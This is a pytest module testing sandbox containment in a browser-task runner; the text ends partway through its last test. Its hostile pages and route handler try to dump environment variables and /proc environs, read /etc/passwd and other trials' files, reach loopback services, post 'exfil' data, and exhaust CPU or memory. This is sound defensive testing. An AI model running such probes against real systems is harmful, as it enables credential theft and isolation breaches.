"""A hostile web task, tried in a real sandboxed runner with its real confined Chromium.

The pack author writes both sides of a web task: the pages (HTML and JavaScript the browser runs) and
the site's route handlers (python the trial's worker runs). Both try to escape here: the pages reach
for loopback services, local files, browser-internal pages, other schemes, popups, downloads, other
trials' sites and storage; the handlers for the runner's environment and files; and pages that hang,
flood or never settle try to hold the call past its budget. Every attempt must be contained, and the
next trial must work as if nothing happened.

The site tool below stands for a pack's routes: it runs in the trial's worker exactly as the shipped
``mock_site`` tool runs a pack's ``ROUTES`` (docs/web-tasks.md). Each trial serves the pages of its
``pages`` table, so each test registers a trial with its own hostile pages.
"""

from __future__ import annotations

import asyncio
import json
import os
import socket
import subprocess
import uuid
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any

import psutil
import pytest
import pytest_asyncio

from tolokaforge.contracts.runner import ExecutionStatus, GetStateRequest
from tolokaforge.contracts.tool import ToolErrorCategory
from tolokaforge.core.models import TrialSpec
from tolokaforge.core.models.web import BrowserSettings
from tolokaforge.core.runner_api import ToolCallRequest, ToolResult
from tolokaforge.runner import Limits, RunnerHandle, RunnerSettings, start_runner
from tolokaforge.runner.browser import BrowserPool, PageSnapshot, SiteRequest, SiteResponse
from tolokaforge.runner.browser.activity import PageActivity
from tolokaforge.runner.trials.web import WebRecord

pytestmark = pytest.mark.asyncio(loop_scope="module")

SECRET = "tf-browser-secret-0123456789"
ORIGIN = "http://shop.test"

SITE = """
import base64
import json
import os
import time
from urllib.parse import urlsplit


def _answer(status, body, content_type="text/html; charset=utf-8", headers=None):
    headers = {"content-type": content_type, **(headers or {})}
    return json.dumps(
        {"status": status, "headers": headers, "body_b64": base64.b64encode(body.encode()).decode()}
    )


def _reach(targets):
    seen = {"env": dict(os.environ), "uid": os.getuid()}
    environs = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                environs.append(open(f"/proc/{pid}/environ", "rb").read().decode("latin-1"))
            except OSError:
                pass
    seen["environs"] = environs
    files = {}
    for path in targets["read"]:
        try:
            files[path] = "read: " + open(path).read()[:200]
        except OSError as error:
            files[path] = "refused: " + type(error).__name__
    for path in targets["list"]:
        try:
            files[path] = "listed: " + ",".join(os.listdir(path))
        except OSError as error:
            files[path] = "refused: " + type(error).__name__
    seen["files"] = files
    import socket
    sockets = {}
    for port in targets["ports"]:
        try:
            socket.create_connection(("127.0.0.1", port), timeout=2).close()
            sockets[str(port)] = "connected"
        except OSError as error:
            sockets[str(port)] = "refused: " + type(error).__name__
    seen["sockets"] = sockets
    return seen


class HostileSite:
    @staticmethod
    def get_info():
        return {"type": "function", "function": {"name": "hostile_site", "parameters": {"type": "object"}}}

    @staticmethod
    def invoke(data, method, url, headers, body_b64):
        parts = urlsplit(url)
        path = parts.path
        body = base64.b64decode(body_b64).decode("utf-8", "replace")
        data["hits"].append({"method": method, "url": url, "body": body[:2000]})
        if path == "/reach":
            return _answer(200, json.dumps(_reach(data["config"]["site"])), "application/json")
        if path == "/slow":
            # Count the requests that ran where the test can see it (a timed-out call's table changes
            # are undone), then hold the call.
            with open("slow-requests.log", "a") as log:
                log.write(url + "\\n")
            time.sleep(data["config"]["site"]["slow_s"])
            with open("slow-requests.log", "a") as log:
                log.write("finished\\n")
            return _answer(200, "slow")
        if path == "/download.bin":
            name = data["config"]["site"]["download_name"]
            return _answer(200, "downloaded bytes", "application/octet-stream",
                           {"content-disposition": f'attachment; filename="{name}"'})
        if path == "/set-cookie":
            return _answer(200, "<p>cookie set</p>", headers={"set-cookie": "site=A; Path=/"})
        page = data["pages"].get(path)
        if page is None:
            return _answer(404, "<p>no such page</p>")
        return _answer(200, page["html"])
"""

SITE_TOOL: dict[str, Any] = {
    "name": "hostile_site",
    "parameters": {"type": "object"},
    "source": {"module_path": "hostile", "class_name": "HostileSite"},
    "hidden": True,
    "validate_arguments": False,
    "timeout_s": 20.0,
}

REPORT = """
<p id="out">waiting</p>
<script>
const results = {};
let pending = 0;
const done = () => { document.getElementById('out').textContent = 'DONE ' + JSON.stringify(results); };
const attempt = (name, run) => {
  pending += 1;
  Promise.resolve().then(run).then(
    (value) => { results[name] = 'reached: ' + String(value).slice(0, 200); },
    (error) => { results[name] = 'failed: ' + String(error && (error.name || error)).slice(0, 80); },
  ).finally(() => { pending -= 1; if (pending === 0) done(); });
};
const timed = (promise, ms) => Promise.race(
  [promise, new Promise((_, no) => setTimeout(() => no(new Error('timeout')), ms))]);
</script>
"""
"""A page's results: ``attempt(name, () => promise)`` records what each attempt reached."""


def page(script: str, title: str = "Hostile") -> str:
    return f"<!doctype html><title>{title}</title>{REPORT}<script>{script}\n</script>"


class Listener:
    """Real loopback servers (TCP and UDP) that count whatever reaches them."""

    def __init__(self) -> None:
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.tcp.setblocking(False)
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp.setblocking(False)
        self.port: int = self.tcp.getsockname()[1]
        self.udp_port: int = self.udp.getsockname()[1]

    def reached(self) -> list[str]:
        seen: list[str] = []
        while True:
            try:
                connection, peer = self.tcp.accept()
            except BlockingIOError:
                break
            seen.append(f"tcp from {peer}")
            connection.close()
        while True:
            try:
                _, peer = self.udp.recvfrom(65536)
            except BlockingIOError:
                break
            seen.append(f"udp from {peer}")
        return seen

    def close(self) -> None:
        self.tcp.close()
        self.udp.close()


@pytest.fixture(scope="module")
def secret_env() -> Iterator[None]:
    """The secret lives where API keys live: in the runner's own environment."""
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("OPENAI_API_KEY", SECRET)
        yield


@pytest.fixture(scope="module")
def work(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The runner's work folder: every trial's workspace is made under it."""
    return tmp_path_factory.mktemp("browser-escapes")


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def runner(secret_env: None, work: Path) -> AsyncIterator[RunnerHandle]:
    handle = await start_runner(RunnerSettings(work_dir=work, isolation="sandbox"))
    try:
        yield handle
    finally:
        await handle.close()


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.close()


def spec(trial_id: str, pages: dict[str, str], config: dict[str, Any]) -> TrialSpec:
    tables: dict[str, Any] = {
        "pages": {path: {"html": html} for path, html in pages.items()},
        "hits": [],
        "config": {"site": config},
    }
    task: dict[str, Any] = {
        "task_id": trial_id.split(":")[0],
        "agent_tools": [SITE_TOOL],
        "tool_code": {"files": {"hostile.py": SITE}},
        "initial_state": {"tables": tables},
        "browser": {"sites": [ORIGIN], "initial_url": f"{ORIGIN}/", "site_tool": "hostile_site"},
        "grading": {"combine_method": "weighted", "weights": {"state_checks": 1.0}, "pass_threshold": 1.0},
    }
    return TrialSpec.model_validate({"trial_id": trial_id, "task": task})


class Trials:
    """Registers hostile trials on the shared runner and drives their browsers."""

    def __init__(self, runner: RunnerHandle) -> None:
        self.runner = runner
        self.calls = 0

    async def register(self, trial_id: str, pages: dict[str, str], **config: Any) -> None:
        await self.runner.runner.register(spec(trial_id, pages, config))

    async def call(self, trial_id: str, *actions: dict[str, Any], timeout_s: float = 0.0) -> ToolResult:
        self.calls += 1
        arguments = json.dumps({"actions": list(actions)})
        request = ToolCallRequest(
            trial_id, f"c{self.calls}", "browser", arguments, "agent", timeout_s=timeout_s
        )
        # A hang guard only (far above any budget here): a call that never returns fails the test.
        return await asyncio.wait_for(self.runner.runner.execute(request), 120)

    async def results(self, trial_id: str, *actions: dict[str, Any]) -> dict[str, str]:
        """Run ``actions``, then look until the page's script has reported every attempt."""
        result = await self.call(trial_id, *(actions or ({"type": "open_web_browser"},)))
        assert result.status == ExecutionStatus.SUCCESS, why(result)
        text = ""
        for _ in range(100):
            text = self.final(trial_id).text
            marker = text.find("DONE ")
            if marker >= 0:
                return json.loads(text[marker + 5 :].splitlines()[0])
            await asyncio.sleep(0.1)
            look = await self.call(trial_id, {"type": "open_web_browser"})
            assert look.status == ExecutionStatus.SUCCESS, why(look)
        raise AssertionError(f"the page never reported: {text[:500]}")

    def web(self, trial_id: str) -> WebRecord:
        return self.runner.runner.registry.get(trial_id).web

    def final(self, trial_id: str) -> PageSnapshot:
        """The page the trial's last call left (what web checks read)."""
        final = self.web(trial_id).final
        assert final is not None, "the browser was never used"
        return final

    async def tables(self, trial_id: str) -> dict[str, Any]:
        state = await self.runner.servicer.get_state(GetStateRequest(trial_id=trial_id))
        return json.loads(state.state_json)

    async def release(self, trial_id: str) -> None:
        await self.runner.runner.release(trial_id)


@pytest_asyncio.fixture(loop_scope="module")
async def trials(runner: RunnerHandle) -> Trials:
    return Trials(runner)


def why(result: ToolResult) -> str:
    return f"{result.status.name}: {result.failure.message if result.failure else result.output[:2000]}"


def navigate(path: str) -> dict[str, Any]:
    return {"type": "navigate", "url": f"{ORIGIN}{path}"}


async def test_page_requests_to_loopback_services_and_local_schemes_are_refused(
    trials: Trials, runner: RunnerHandle, listener: Listener, work: Path
) -> None:
    targets = {
        "listener": f"http://127.0.0.1:{listener.port}/",
        "listener6": f"http://[::1]:{listener.port}/",
        "localhost": f"http://localhost:{listener.port}/",
        "runner": f"http://127.0.0.1:{runner.port}/",
        "postgres": "http://127.0.0.1:5432/",
        "passwd": "file:///etc/passwd",
        "workspace": f"file://{work}/",
        "chrome": "chrome://version/",
        "devtools": "devtools://devtools/bundled/inspector.html",
        "source": f"view-source:{ORIGIN}/",
    }
    script = (
        f"const targets = {json.dumps(targets)};\n"
        + """
for (const [name, url] of Object.entries(targets)) {
  attempt('fetch ' + name, () => timed(fetch(url, {mode: 'no-cors'}).then((r) => r.type + ' ' + r.status), 2500));
  attempt('xhr ' + name, () => timed(new Promise((ok, no) => {
    const xhr = new XMLHttpRequest(); xhr.open('GET', url);
    xhr.onload = () => ok(xhr.status + ' ' + xhr.responseText.slice(0, 80)); xhr.onerror = () => no(new Error('error'));
    xhr.send(); }), 2500));
  attempt('img ' + name, () => timed(new Promise((ok, no) => {
    const img = new Image(); img.onload = () => ok('loaded'); img.onerror = () => no(new Error('error'));
    img.src = url; }), 2500));
  attempt('beacon ' + name, () => { if (navigator.sendBeacon(url, 'x')) throw new Error('queued'); return 'refused'; });
}
attempt('iframe', () => timed(new Promise((ok) => {
  const frame = document.createElement('iframe'); frame.src = targets.passwd;
  frame.onload = () => { try { ok('readable: ' + frame.contentDocument.body.innerText.slice(0, 80)); }
                         catch (e) { ok('opaque'); } };
  document.body.appendChild(frame); }), 2500));
attempt('form post', () => timed(new Promise((ok) => {
  const sink = document.createElement('iframe'); sink.name = 'sink'; document.body.appendChild(sink);
  const form = document.createElement('form'); form.method = 'post'; form.action = targets.listener;
  form.target = 'sink'; form.innerHTML = '<input name="q" value="exfil">'; document.body.appendChild(form);
  sink.onload = () => { try { ok('loaded: ' + sink.contentDocument.location.href); } catch (e) { ok('opaque'); } };
  form.submit(); }), 2500));
attempt('websocket', () => timed(new Promise((ok, no) => {
  const ws = new WebSocket('ws://127.0.0.1:' + targets.listener.split(':')[2].replace('/', ''));
  ws.onopen = () => ok('open'); ws.onerror = () => no(new Error('error')); ws.onclose = () => no(new Error('closed')); }), 2500));
attempt('eventsource', () => timed(new Promise((ok, no) => {
  const es = new EventSource(targets.listener); es.onopen = () => ok('open'); es.onerror = () => { es.close(); no(new Error('error')); }; }), 2500));
attempt('service worker', () => navigator.serviceWorker.register('/sw.js').then(() => 'registered'));
attempt('webrtc', () => new Promise((ok) => {
  const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + UDP_PORT}]});
  pc.createDataChannel('x');
  const candidates = [];
  const finish = () => { pc.close(); ok(JSON.stringify(candidates)); };
  setTimeout(finish, 2000);
  pc.onicecandidate = (e) => { if (e.candidate) candidates.push(e.candidate.candidate); else finish(); };
  pc.createOffer().then((offer) => pc.setLocalDescription(offer)); }));
""".replace("UDP_PORT", str(listener.udp_port))
    )
    await trials.register("loopback:0", {"/": page(script)})
    results = await trials.results("loopback:0")
    assert listener.reached() == []
    for name in targets:
        for kind in ("fetch", "xhr", "img"):
            assert results[f"{kind} {name}"].startswith("failed"), (kind, name, results)
    # A beacon to an http URL is queued (sendBeacon says true), then refused like a fetch: the listener
    # saw nothing; one to another scheme is not even queued.
    assert all(results[f"beacon {name}"].startswith("failed") for name in targets), results
    assert "root:x:0:0" not in json.dumps(results)
    assert not results["iframe"].startswith("readable"), results
    assert results["websocket"].startswith("failed"), results
    assert results["eventsource"].startswith("failed"), results
    assert results["service worker"].startswith("failed"), results
    # WebRTC gathers nothing from the browser's empty network namespace: no host address, no STUN answer.
    candidates = json.loads(results["webrtc"].removeprefix("reached: "))
    host_addresses = {a.address for addrs in psutil.net_if_addrs().values() for a in addrs} - {
        "127.0.0.1",
        "::1",
    }
    assert not [c for c in candidates if "srflx" in c or any(a in c for a in host_addresses)], candidates
    refused = set(trials.web("loopback:0").refused)
    for name in ("listener", "runner", "postgres", "localhost"):
        assert targets[name] in refused, (name, refused)
    # Only the site's own page reached the site.
    hits = (await trials.tables("loopback:0"))["hits"]
    assert {hit["url"] for hit in hits} == {f"{ORIGIN}/"}, hits


OUTSIDE = (
    "file:///etc/passwd",
    "chrome://version/",
    "chrome://settings/",
    "devtools://devtools/bundled/inspector.html",
    f"view-source:{ORIGIN}/",
    "data:text/html,<title>data</title><p>data document</p>",
    "javascript:void(document.title='js')",
    "http://127.0.0.1:5432/",
)


async def test_a_page_cannot_take_the_browser_off_the_site(
    trials: Trials, listener: Listener, work: Path
) -> None:
    targets = [*OUTSIDE, f"file://{work}/", f"http://127.0.0.1:{listener.port}/"]
    pages = {"/": "<title>Home</title><p>home</p>"}
    for index, target in enumerate(targets):
        pages[f"/go/{index}"] = f"<title>Go</title><script>location.href = {json.dumps(target)};</script>"
        pages[f"/pop/{index}"] = f"<title>Pop</title><script>window.open({json.dumps(target)});</script>"
        pages[f"/link/{index}"] = f"<title>Link</title><a id='out' href={json.dumps(target)}>out</a>"
    # A document made by the page itself (blob:, same origin) is still routed: it cannot reach out either.
    pages["/blob"] = (
        "<title>Blob</title><script>const html = '<title>blob</title><script>fetch(\"http://127.0.0.1:"
        f'{listener.port}/").then(() => document.title = "reached", () => document.title = "failed")'
        "<' + '/script>'; location.href = URL.createObjectURL(new Blob([html], {type: 'text/html'}));</script>"
    )
    # A data: frame (an opaque origin the page wrote) reaching out, and taking its top frame away.
    pages["/data-frame"] = (
        "<title>Framed</title><iframe src=\"data:text/html,<script>fetch('http://127.0.0.1:"
        f"{listener.port}/');top.location='file:///etc/passwd';</script>\"></iframe>"
    )
    await trials.register("offsite:0", pages)
    framed = await trials.call("offsite:0", navigate("/data-frame"))
    assert framed.status == ExecutionStatus.SUCCESS and f"URL: {ORIGIN}/data-frame" in framed.output, why(
        framed
    )
    for index, target in enumerate(targets):
        for kind in ("go", "pop", "link"):
            actions: list[dict[str, Any]] = [navigate(f"/{kind}/{index}")]
            if kind == "link":
                actions.append({"type": "click_at", "selector": "#out"})
            result = await trials.call("offsite:0", *actions)
            assert result.status in (ExecutionStatus.SUCCESS, ExecutionStatus.ERROR), why(result)
            final = trials.final("offsite:0")
            assert final.url.startswith(f"{ORIGIN}/") or final.url.startswith("chrome-error:"), (
                target,
                final.url,
            )
            assert "root:x:0:0" not in final.text and "data document" not in final.text, (target, final.text)
        # The agent's own navigate is refused before the browser is asked.
        refused = await trials.call("offsite:0", {"type": "navigate", "url": target})
        assert refused.status == ExecutionStatus.ERROR and refused.failure is not None, why(refused)
        assert "navigation refused" in refused.failure.message, refused.failure.message
    await trials.call("offsite:0", navigate("/blob"))
    for _ in range(50):
        if trials.final("offsite:0").title in ("failed", "reached"):
            break
        await asyncio.sleep(0.1)
        await trials.call("offsite:0", {"type": "open_web_browser"})
    assert trials.final("offsite:0").title == "failed"
    assert listener.reached() == []
    # Every request the site saw was one of its own pages.
    hits = (await trials.tables("offsite:0"))["hits"]
    assert all(hit["url"].startswith(f"{ORIGIN}/") for hit in hits), hits


async def test_a_download_writes_nothing_anywhere(trials: Trials, runner: RunnerHandle) -> None:
    name = f"tf-escape-{uuid.uuid4().hex}.bin"
    pages = {
        "/": (
            "<title>Files</title><a id='save' href='/download.bin' download>save</a>"
            "<a id='open' href='/download.bin'>open</a>"
            "<script>const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['blob bytes']));"
            f"a.download = {json.dumps(name)}; document.body.appendChild(a); a.click();</script>"
        )
    }
    await trials.register("download:0", pages, download_name=name)
    for selector in ("#save", "#open"):
        result = await trials.call("download:0", {"type": "click_at", "selector": selector})
        assert result.status == ExecutionStatus.SUCCESS, why(result)
    assert (await trials.call("download:0", navigate("/download.bin"))).status in (
        ExecutionStatus.SUCCESS,
        ExecutionStatus.ERROR,
    )
    # The site was asked (it is the trial's own), but no file of that name exists on this machine.
    hits = (await trials.tables("download:0"))["hits"]
    assert any(hit["url"].endswith("/download.bin") for hit in hits), hits
    found = subprocess.run(
        ["find", "/", "-xdev", "-name", name, "-not", "-path", "/proc/*"],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert found.stdout == "", found.stdout


async def test_two_trials_of_one_site_share_no_state_storage_or_channel(trials: Trials) -> None:
    writer = (
        "<title>Writer</title><p>writing</p><script>"
        "localStorage.setItem('mark', 'A'); sessionStorage.setItem('mark', 'A');"
        "document.cookie = 'mark=A; path=/; max-age=3600';"
        "indexedDB.open('marks').onupgradeneeded = (e) => e.target.result.createObjectStore('A');"
        "if (typeof caches !== 'undefined') caches.open('A');"
        "const channel = new BroadcastChannel('tf'); setInterval(() => channel.postMessage('from A'), 20);"
        "fetch('/write', {method: 'POST', body: 'from A'});"
        "</script>"
    )
    reader = page(
        "let heard = 'nothing'; new BroadcastChannel('tf').onmessage = (e) => { heard = e.data; };\n"
        "attempt('storage', () => localStorage.getItem('mark') || 'none');\n"
        "attempt('session', () => sessionStorage.getItem('mark') || 'none');\n"
        "attempt('cookie', () => document.cookie || 'none');\n"
        "attempt('idb', () => indexedDB.databases().then((all) => JSON.stringify(all)));\n"
        "attempt('caches', () => caches.keys().then((keys) => JSON.stringify(keys)).catch(() => 'none'));\n"
        "attempt('channel', () => new Promise((ok) => setTimeout(() => ok(heard), 1000)));\n",
        title="Reader",
    )
    pages = {"/": "<title>Home</title>", "/writer": writer, "/set-cookie": "", "/read": reader}
    await trials.register("same:a", pages)
    await trials.register("same:b", pages)
    first = await trials.call("same:a", navigate("/set-cookie"), navigate("/writer"))
    assert first.status == ExecutionStatus.SUCCESS, why(first)
    # Trial B reads while trial A's page is open and broadcasting in the same browser.
    seen, own = await asyncio.gather(
        trials.results("same:b", navigate("/read")), trials.results("same:a", navigate("/read"))
    )
    assert seen == {
        "storage": "reached: none",
        "session": "reached: none",
        "cookie": "reached: none",
        "idb": "reached: []",
        "caches": "failed: ReferenceError",  # CacheStorage is for secure origins only
        "channel": "reached: nothing",
    }, seen
    # The writer's own trial does see what it stored: the reads above are not blind.
    assert own["storage"] == "reached: A" and "mark=A" in own["cookie"] and "site=A" in own["cookie"], own
    # Trial A's page wrote to its own site only: trial B's tables never saw it.
    assert [hit["body"] for hit in (await trials.tables("same:a"))["hits"] if hit["method"] == "POST"] == [
        "from A"
    ]
    assert [hit for hit in (await trials.tables("same:b"))["hits"] if hit["method"] == "POST"] == []
    # A later trial of the same site, on a reused browser, starts as empty as B.
    await trials.release("same:a")
    await trials.register("same:c", pages)
    later = await trials.results("same:c", navigate("/read"))
    assert later == seen, later


async def test_a_route_handler_sees_only_its_own_workspace(
    trials: Trials, runner: RunnerHandle, work: Path, tmp_path: Path
) -> None:
    results = tmp_path / "results"
    results.mkdir()
    (results / "grade.yaml").write_text("passed: false\n")
    await trials.register("victim:0", {"/": "<p>victim</p>"})
    await trials.call("victim:0", {"type": "open_web_browser"})
    victim = runner.runner.registry.get("victim:0").files.workspace
    assert victim is not None
    (victim / "private.txt").write_text("victim's file")
    targets = {
        "read": [str(results / "grade.yaml"), str(victim / "private.txt"), f"/proc/{os.getpid()}/environ"],
        "list": [".", str(work), str(victim), str(results), "/root"],
        "ports": [runner.port],
    }
    await trials.register("handler:0", {"/": "<p>home</p>"}, **targets)
    result = await trials.call("handler:0", navigate("/reach"))
    assert result.status == ExecutionStatus.SUCCESS, why(result)
    final = trials.final("handler:0")
    seen = json.loads(final.text)
    assert SECRET not in final.text and "OPENAI_API_KEY" not in seen["env"]
    assert seen["uid"] != 0
    own = seen["files"].pop(".")
    assert own.startswith("listed"), own  # its own workspace: the handler is not blind
    assert all(outcome.startswith("refused") for outcome in seen["files"].values()), seen["files"]
    assert all(outcome.startswith("refused") for outcome in seen["sockets"].values()), seen["sockets"]


async def test_a_page_that_never_yields_times_out_within_budget_and_the_next_trial_is_unaffected(
    trials: Trials,
) -> None:
    pages = {
        "/": "<title>Home</title><p>home</p>",
        "/spin": "<title>Spin</title><script>while (true) {}</script>",
        "/spin-later": "<title>Later</title><p>loaded</p><script>setTimeout(() => { while (true) {} }, 0);</script>",
    }
    await trials.register("spin:0", pages)
    for path in ("/spin", "/spin-later"):
        result = await trials.call("spin:0", navigate(path), timeout_s=4.0)
        assert result.status == ExecutionStatus.TIMEOUT, why(result)
        assert result.failure is not None and "budget of 4s" in result.failure.message
        # The page was closed: the next call opens the task's initial page again.
        again = await trials.call("spin:0", {"type": "open_web_browser"})
        assert again.status == ExecutionStatus.SUCCESS and "home" in again.output, why(again)
    await trials.register("spin:1", pages)
    fresh = await trials.call("spin:1", {"type": "open_web_browser"})
    assert fresh.status == ExecutionStatus.SUCCESS and "home" in fresh.output, why(fresh)


async def test_dialogs_and_a_page_that_refuses_to_leave_do_not_hold_the_call(trials: Trials) -> None:
    pages = {
        "/": (
            "<title>Dialogs</title><p id='answers'></p><a id='next' href='/next'>next</a><script>"
            "alert('one'); const c = confirm('two'); const p = prompt('three');"
            "document.getElementById('answers').textContent = 'confirm=' + c + ' prompt=' + p;"
            "addEventListener('beforeunload', (e) => { e.preventDefault(); e.returnValue = 'stay'; });"
            "setInterval(() => alert('again'), 50);"
            "</script>"
        ),
        "/next": "<title>Next</title><p>moved on</p>",
    }
    await trials.register("dialogs:0", pages)
    first = await trials.call("dialogs:0", {"type": "open_web_browser"})
    assert first.status == ExecutionStatus.SUCCESS, why(first)
    assert "confirm=false prompt=null" in first.output  # dismissed, as nobody is there to answer
    moved = await trials.call("dialogs:0", {"type": "click_at", "selector": "#next"}, navigate("/next"))
    assert moved.status == ExecutionStatus.SUCCESS and "moved on" in moved.output, why(moved)


async def test_a_huge_page_ends_the_call_and_the_model_is_shown_a_cut(trials: Trials) -> None:
    pages = {
        "/": (
            "<title>Huge</title><script>"
            "const line = 'x'.repeat(1000) + ' ';"
            "const parts = []; for (let i = 0; i < 5000; i++) parts.push('<p>' + line + i + '</p>');"
            "document.write(parts.join(''));"
            "</script>"
        )
    }
    await trials.register("huge:0", pages)
    result = await trials.call("huge:0", {"type": "open_web_browser"})
    assert result.status == ExecutionStatus.SUCCESS, why(result)
    assert len(result.output) < 40_000  # the model's share: 6,000 characters of text, 120 elements
    # Web checks read the whole text: the runner holds it (the renderer caps how much a page can make).
    final = trials.final("huge:0")
    assert final.title == "Huge" and len(final.text) > 5_000_000


async def test_a_site_flooded_with_slow_requests_cannot_hold_the_call_past_its_budget(
    trials: Trials, runner: RunnerHandle
) -> None:
    flood = "<title>Flood</title><script>for (let i = 0; i < 6; i++) fetch('/slow?n=' + i);</script>"
    await trials.register("flood:0", {"/": "<title>Home</title>", "/flood": flood}, slow_s=6.0)
    warm = await trials.call("flood:0", {"type": "open_web_browser"})  # the page and its worker are up
    assert warm.status == ExecutionStatus.SUCCESS, why(warm)
    result = await trials.call("flood:0", navigate("/flood"), timeout_s=2.0)
    assert result.status == ExecutionStatus.TIMEOUT, why(result)
    workspace = runner.runner.registry.get("flood:0").files.workspace
    assert workspace is not None
    # At most the request already running when the budget ran out was waited for; the queued ones
    # were answered without running the site (its tables change only while a call drives the page).
    log = workspace / "slow-requests.log"
    ran = log.read_text().splitlines() if log.exists() else []
    started = [line for line in ran if line != "finished"]
    assert len(started) <= 1, ran
    # and the one running was cut at the call's end: its worker never got to finish the 6 s sleep
    assert "finished" not in ran, ran
    again = await trials.call("flood:0", {"type": "open_web_browser"})
    assert again.status == ExecutionStatus.SUCCESS, why(again)


async def test_a_popup_stays_in_its_trials_context_and_troubles_no_other_trial(trials: Trials) -> None:
    pages = {
        "/": "<title>Opener</title><p id='from'>alone</p><script>window.open('/popup');</script>",
        "/popup": "<title>Popup</title><script>opener.document.getElementById('from').textContent = 'popup loaded';</script>",
    }
    await trials.register("popup:0", pages)
    await trials.register("popup:1", {"/": "<title>Other</title><p id='from'>other</p>"})
    opened = await trials.call("popup:0", {"type": "open_web_browser"})
    assert opened.status == ExecutionStatus.SUCCESS, why(opened)
    # The popup's first request comes before its frame exists: reading its frame then must not leave
    # an error behind for the next browser operation, which may be another trial's.
    other = await trials.call("popup:1", {"type": "open_web_browser"})
    assert other.status == ExecutionStatus.SUCCESS and "other" in other.output, why(other)
    result = opened
    for _ in range(50):
        result = await trials.call("popup:0", {"type": "open_web_browser"})
        assert result.status == ExecutionStatus.SUCCESS, why(result)
        if "popup loaded" in result.output:
            break
        await asyncio.sleep(0.1)
    assert "popup loaded" in result.output, result.output
    hits = (await trials.tables("popup:0"))["hits"]
    assert [hit["url"] for hit in hits] == [f"{ORIGIN}/", f"{ORIGIN}/popup"], hits
    assert [hit["url"] for hit in (await trials.tables("popup:1"))["hits"]] == [f"{ORIGIN}/"]


async def test_a_page_that_never_settles_or_breaks_the_read_is_the_calls_error_not_a_lost_trial(
    trials: Trials,
) -> None:
    pages = {
        "/": "<title>Home</title><p>home</p>",
        "/reload": "<title>Reload</title><p>again</p><script>setTimeout(() => location.reload(), 0);</script>",
        "/hop": (
            "<title>Hop</title><script>history.pushState({}, '', '/hop?' + Date.now());"
            "setTimeout(() => location.href = '/hop', 0); setInterval(() => fetch('/tick'), 5);</script>"
        ),
        "/broken": (
            "<title>Broken</title><p>broken</p><script>"
            "document.querySelectorAll = () => { throw new Error('no reading here'); };</script>"
        ),
    }
    await trials.register("restless:0", pages)
    for path in ("/reload", "/hop"):
        # Whatever the page does, the call ends within its budget as the agent's outcome: an
        # InfrastructureFailure (a lost trial, retried) would be raised here instead.
        result = await trials.call("restless:0", navigate(path), timeout_s=6.0)
        assert result.status in (ExecutionStatus.SUCCESS, ExecutionStatus.ERROR, ExecutionStatus.TIMEOUT), (
            why(result)
        )
        assert result.status != ExecutionStatus.ERROR or result.reported_by_tool, why(result)
    broken = await trials.call("restless:0", navigate("/broken"))
    assert broken.status == ExecutionStatus.ERROR and broken.reported_by_tool, why(broken)
    assert broken.failure is not None and "could not be read" in broken.failure.message
    assert "no reading here" in broken.failure.message
    back = await trials.call("restless:0", navigate("/"))
    assert back.status == ExecutionStatus.SUCCESS and "home" in back.output, why(back)
    await trials.register("restless:1", pages)
    fresh = await trials.call("restless:1", {"type": "open_web_browser"})
    assert fresh.status == ExecutionStatus.SUCCESS and "home" in fresh.output, why(fresh)


async def test_the_calls_budget_is_not_lost_while_the_page_is_busy() -> None:
    """A page that keeps the browser busy (a request every few ms) wakes the settle wait constantly:
    the budget's cancellation arriving in the same moment as a page event must still end the wait
    (were it swallowed, the call would go on with no budget left to stop it)."""
    activity = PageActivity(lambda request: True)
    activity.expect_leaving()  # not quiet: the wait has to wait
    waiting = asyncio.ensure_future(
        activity.wait_quiet(asyncio.get_running_loop().time() + 30, stop=lambda: False)
    )
    await asyncio.sleep(0)
    activity.poke()  # the page's event and the budget's end, in one turn of the loop
    waiting.cancel()
    with pytest.raises(asyncio.CancelledError):
        await waiting


async def test_the_calls_budget_is_not_lost_while_a_fresh_page_is_being_made() -> None:
    """A trial's first call that runs out of budget while the pool's spare context is still being
    made must stop there, not go on to make another one past its budget."""
    pool = BrowserPool()
    try:
        settings = BrowserSettings(initial_url=f"{ORIGIN}/", sites=[ORIGIN])

        async def serve(request: SiteRequest) -> SiteResponse:
            return SiteResponse(200, {"content-type": "text/html"}, b"<p>home</p>")

        first = await pool.open_session(settings, serve)  # the next spare is made from here on
        with pytest.raises(TimeoutError):
            async with asyncio.timeout(0.01):
                late = await pool.open_session(settings, serve)
                await late.close()
        await first.close()
        # The pool is still sound: the next trial gets its page.
        again = await pool.open_session(settings, serve)
        assert (await again.run([{"type": "open_web_browser"}], screenshot=False)).snapshot.text == "home"
    finally:
        await pool.close()


async def test_a_page_that_allocates_without_end_costs_its_call_not_the_machine_or_the_trial(
    secret_env: None, tmp_path: Path
) -> None:
    # The browser's processes share a cgroup holding the runner's per-trial memory (1 GiB here): the
    # kernel kills the renderer that grew, its call fails as a crash, and everything else goes on.
    work = tmp_path / "work"
    work.mkdir()
    handle = await start_runner(
        RunnerSettings(work_dir=work, isolation="sandbox", limits=Limits(memory_bytes=1 << 30)), serve=False
    )
    try:
        trials = Trials(handle)
        pages = {
            "/": "<title>Home</title><p>home</p>",
            "/grow": (
                "<title>Grow</title><script>const kept = [];"
                "for (let i = 0; i < 12; i++) { const b = new Uint8Array(256 << 20); b.fill(1); kept.push(b); }"
                "document.title = 'survived';</script>"
            ),
        }
        await trials.register("grow:0", pages)
        await trials.register("grow:1", pages)
        first = await trials.call("grow:1", {"type": "open_web_browser"})
        assert first.status == ExecutionStatus.SUCCESS and "home" in first.output, why(first)
        grown = await trials.call("grow:0", navigate("/grow"), timeout_s=60.0)
        assert grown.status == ExecutionStatus.ERROR and grown.failure is not None, why(grown)
        assert "the page crashed" in grown.failure.message, why(grown)
        # The page's doing: a crash of the call (an infrastructure failure would have raised instead).
